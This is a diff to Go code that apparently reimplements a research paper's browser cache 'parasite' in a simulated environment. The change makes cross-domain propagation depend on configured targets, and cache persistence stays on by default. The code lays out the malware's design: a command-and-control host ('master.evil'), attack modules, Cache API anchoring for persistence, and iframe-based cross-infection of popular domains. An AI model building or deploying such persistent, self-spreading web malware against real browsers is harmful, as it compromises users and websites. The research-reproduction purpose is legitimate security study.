@@ -37,24 +37,23 @@ type Config struct {
 	// MasterHost is the C&C host ("master.evil").
 	MasterHost string
 	// PropagationTargets are the popular domains to cross-infect
-	// (Fig. 2 step 5: "GET top1.com/persistent.js ...").
+	// (Fig. 2 step 5: "GET top1.com/persistent.js ..."). With none, the
+	// parasite does not propagate.
 	PropagationTargets []string
 	// Modules maps command names to attack implementations (Table V).
 	Modules map[string]Module
 	// Anchor stores the infected object in the Cache API for persistence
 	// beyond cache clearing (Table III). On by default via NewConfig.
 	Anchor bool
-	// Propagate enables iframe propagation. On by default via NewConfig.
-	Propagate bool
 }
 
-// NewConfig builds a strain with persistence and propagation enabled.
+// NewConfig builds a strain with persistence enabled and no
+// propagation targets.
 func NewConfig(id, botID, masterHost string) *Config {
 	return &Config{
 		ID: id, BotID: botID, MasterHost: masterHost,
-		Modules:   make(map[string]Module),
-		Anchor:    true,
-		Propagate: true,
+		Modules: make(map[string]Module),
+		Anchor:  true,
 	}
 }
 
@@ -163,7 +162,7 @@ func (r *Registry) run(env script.Env, cfg *Config) error {
 
 	// 3. Propagation between domains (§VI-B1): frame the target domains
 	// so the browser loads — and the master infects — their objects.
-	if cfg.Propagate && firstRunHere {
+	if firstRunHere {
 		for _, target := range cfg.PropagationTargets {
 			if target == origin || r.infectedOrigins[cfg.BotID][target] {
 				continue
